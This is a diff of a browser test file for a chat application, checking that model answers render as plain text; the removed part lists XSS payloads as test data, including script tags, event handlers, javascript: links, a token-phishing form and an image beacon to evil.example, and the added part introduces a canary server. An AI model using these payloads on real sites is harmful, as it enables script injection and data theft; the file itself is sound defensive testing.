@@ -1,97 +1,60 @@
 // A model is not trusted: whatever its text holds, it runs nothing, loads nothing and leads nowhere by itself.
-// The stand-in repeats the first two hundred characters of a question in its answer, so that it says what a test wants.
-// That the page asked no other host for anything is looked at after every test.
+// The stand-in repeats a question that asks for it, so that it says what a test wants: the documents in tests/hostile,
+// which the real window is shown too. That the page asked no other host for anything is looked at after every test.
 
 import assert from 'node:assert/strict';
+import { readdirSync, readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
 import { describe } from 'node:test';
-import { ask, becomes, call, chatRows, fileRow, signedIn, walkTo } from './oriel.mjs';
+import { ask, becomes, call, chatRows, composer, fileRow, signedIn, walkTo } from './oriel.mjs';
 
-const ATTACKS = [
-  ['a script', '\n\n<script>window.pwned = 1</script>'],
-  ['a handler', '\n\n<img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg>'],
-  [
-    'a handler inside a line',
-    'see <b onmouseover="window.pwned = 1">this</b> <details open ontoggle="window.pwned=1">',
-  ],
-  ['a frame', '\n\n<iframe src="https://evil.example/"></iframe>\n<object data="https://evil.example/x"></object>'],
-  ['a style sheet', '\n\n<link rel=stylesheet href=https://evil.example/x.css><style>body{display:none}</style>'],
-  ['a form', '\n\n<form action="https://evil.example/"><input name=token><button>Sign in again</button></form>'],
-  [
-    'a redirection',
-    '\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
-  ],
-  [
-    'a link that is a script',
-    '[one](javascript:window.pwned=1) [two](JaVaScRiPt:window.pwned=1) <javascript:window.pwned=1>',
-  ],
-  ['a link that is a page', '[page](data:text/html,<script>window.pwned=1</script>) [file](file:///etc/passwd)'],
-  [
-    'a link to the program itself',
-    '[in](oriel://auth/callback?code=x&state=y) [root](/door/account.signOut) [here](#x)',
-  ],
-  [
-    'a link with a tail',
-    '[a](https://example.org/"onclick="window.pwned=1) [b](https://example.org/ "x\\" onclick=pwned=1")',
-  ],
-  [
-    'a picture elsewhere',
-    '![x](https://evil.example/pixel.png?secret) ![y](//evil.example/p.gif) [![z](http://evil.example/z.png)](https://a.example)',
-  ],
-  [
-    'a picture that is a page',
-    '![x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml,<svg onload=pwned=1>)',
-  ],
-  ['a reference', '[x][1] ![y][2]\n\n[1]: javascript:window.pwned=1\n[2]: https://evil.example/r.png\n\n'],
-  [
-    'a formula',
-    '$\\href{javascript:window.pwned=1}{x}$ $\\includegraphics{https://evil.example/f.png}$ $\\style{x:y}{z}$ $\\class{a}{b}$',
-  ],
-  ['a formula without end', '$\\def\\a{\\a\\a}\\a$ $\\rule{99999em}{99999em}$'],
-  ['an entity', '&lt;script&gt;window.pwned=1&lt;/script&gt; [x](&#106;avascript:window.pwned=1)'],
-  [
-    'a code fence',
-    '\n\n```html"><script>window.pwned=1</script>\n</code></pre><script>window.pwned=1</script>\n```\n\n',
-  ],
-  ['a thousand levels', `\n\n${'>'.repeat(90)}${'- '.repeat(40)}`],
-];
+/** A model that costs so little that all of this can be paid. */
+const CHEAP = 'gpt-5.4-nano';
 
-/** What must not be in an answer, or of it anywhere in the page. */
-const found = (answer) =>
-  answer.evaluate((article) => {
-    const forbidden =
-      'script, iframe, object, embed, link, style, meta, base, form, input:not([type=checkbox]), details, video, audio';
-    const all = [...article.querySelectorAll('*')];
-    return {
-      elements: [...article.querySelectorAll(forbidden)].map(({ tagName }) => tagName),
-      handlers: all.flatMap(({ attributes }) =>
-        [...attributes].map(({ name }) => name).filter((name) => /^on/.test(name)),
-      ),
-      links: [...article.querySelectorAll('a, [href]')]
-        .map(({ href }) => href)
-        .filter((href) => !/^(https?|mailto):/.test(href)),
-      pictures: [...article.querySelectorAll('img, image, [src]')]
-        .map(({ src }) => src)
-        .filter((src) => !/^data:image\/png/.test(src)),
-      wide: document.documentElement.scrollWidth > innerWidth,
-      ran: window.pwned ?? null,
-    };
+const folder = new URL('../hostile/', import.meta.url);
+const read = (name) => readFileSync(new URL(name, folder), 'utf8');
+const texts = readdirSync(folder)
+  .filter((name) => name.endsWith('.txt'))
+  .map(read);
+/** The documents are looked at in so many parts, each with a window of its own. */
+const PARTS = 4;
+
+/** A server that counts who asks it. Nobody should. */
+async function canary(use) {
+  const asked = [];
+  const server = createServer((request, response) => {
+    asked.push(request.url);
+    response.end();
   });
-
-const NOTHING = { elements: [], handlers: [], links: [], pictures: [], wide: false, ran: null };
+  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+  try {
+    await use(`http://127.0.0.1:${server.address().port}`);
+  } finally {
+    server.close();
+  }
+  assert.deepEqual(asked, [], 'nobody asked the canary');
+}
 
 describe('what a model says', () => {
-  signedIn('is drawn as text whatever it holds', async ({ page, address }) => {
-    for (const [name, attack] of ATTACKS) {
-      // The end of a question is cut off; what it asks for is heard all the same.
-      const question = `${attack}`.padEnd(200).concat('\nA short answer, please.');
-      const answer = await ask(page, `x ${question}`);
-      assert.deepEqual(await found(answer), NOTHING, name);
-      await answer.getByText('You said:').first().waitFor();
-    }
-    for (const link of await page.getByRole('log').getByRole('link').all()) await link.hover();
-    assert.equal(page.url(), `${address}/`);
-    assert.equal(await page.evaluate(() => window.pwned ?? null), null);
-  });
+  for (let part = 0; part < PARTS; part++) {
+    signedIn(`runs nothing and loads nothing, part ${part + 1} of ${PARTS}`, async ({ page, address }) => {
+      const preferences = await call(address, 'preferences.get');
+      await call(address, 'preferences.set', { preferences: { ...preferences, model: CHEAP, maxTokens: 50_000 } });
+      await page.reload();
+      await composer(page).waitFor();
+      await canary(async (canary) => {
+        const asked = JSON.stringify({ texts, canary, part, parts: PARTS });
+        const { results, loaded } = await page.evaluate(`(${read('ask.js')})(${asked})`);
+        assert.deepEqual(
+          results.filter(({ found }) => found.length > 0),
+          [],
+        );
+        assert.deepEqual(loaded, []);
+        assert.ok(results.length > 150 / PARTS, `${results.length} documents`);
+      });
+      assert.equal(page.url(), `${address}/`);
+    });
+  }
 
   signedIn('shows tags as they were written', async ({ page }) => {
     const answer = await ask(page, 'a short answer with\n\n<b onclick="x()">bold</b>\n\n<script>alert(1)</script>');
